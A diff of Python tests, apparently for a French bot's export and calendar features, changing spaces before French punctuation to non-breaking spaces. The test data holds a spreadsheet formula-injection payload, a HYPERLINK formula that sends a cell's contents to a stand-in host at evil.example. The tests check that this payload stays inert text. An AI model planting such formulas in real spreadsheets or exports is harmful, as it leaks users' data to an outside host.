@@ -133,7 +133,7 @@ async def test_recap_exports_keep_hostile_notes_as_text_and_numbers_as_numbers(p
     rendered = MarkdownIt("gfm-like", {"linkify": True}).render(markdown)
     assert "<a " not in rendered and "<img" not in rendered and "<code" not in rendered
     assert "<h3>15 =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</h3>" in rendered
-    assert "<li>2018, Promeneurs : =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</li>" in rendered
+    assert "<li>2018, Promeneurs\u00a0: =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</li>" in rendered
 
     csv_result = await w.coordinator.slash(w.general, "bilan export", annee=2027, format="csv")
     exported = await _last(csv_result).attachments[0].read()
@@ -201,7 +201,7 @@ async def test_event_calendar_files_through_creation_change_and_cancellation(pro
         return str(event["UID"]), str(event["STATUS"]), int(event["SEQUENCE"]), other.dtstart.value
 
     await w.coordinator.slash(
-        w.general, "evenement creer", titre="Café ; numérique, « écrans »", type="thematic_training",
+        w.general, "evenement creer", titre="Café\u00a0; numérique, «\u00a0écrans\u00a0»", type="thematic_training",
         debut="22/06/2027 9h30", fin="16h30", format="in_person", lieu="Centre social, Riom", territoire="63",
     )
     created = await current_ics()
